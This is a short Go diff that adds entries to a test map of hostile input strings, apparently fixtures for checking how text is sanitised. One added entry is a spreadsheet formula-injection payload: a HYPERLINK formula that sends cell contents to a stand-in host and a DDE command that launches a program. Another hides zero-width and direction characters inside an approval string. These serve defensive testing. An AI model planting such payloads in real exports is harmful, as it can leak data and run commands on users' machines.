@@ -25,6 +25,8 @@ var hostile = map[string]string{
 	"controls":            "a\x00b\x07c\x1bd\x7fe\u0085f",
 	"turned round":        "\u202Etxet siht\u202C \u2066isolated\u2069",
 	"right to left":       "مرحبا بالعالم שלום עולם",
+	"a formula":           "=HYPERLINK(\"https://evil.example.test?\"&A1,\"open\")\n+1\n-1+cmd|' /C calc'!A0\n@SUM(A1)\n\t=1",
+	"joined by nothing":   "ap\u200dprove\u200c \u200e\u200fCHG-1\u200b",
 	"no UTF-8":            "a\xffb\xc3",
 	"half an emoji":       "👩\u200d👩\u200d👧\u200d👦 \ud7ff\ufffd",
 	"formatting":          "*bold* _it_ ~out~ `code` ```\nblock\n> quote\n>>> more",
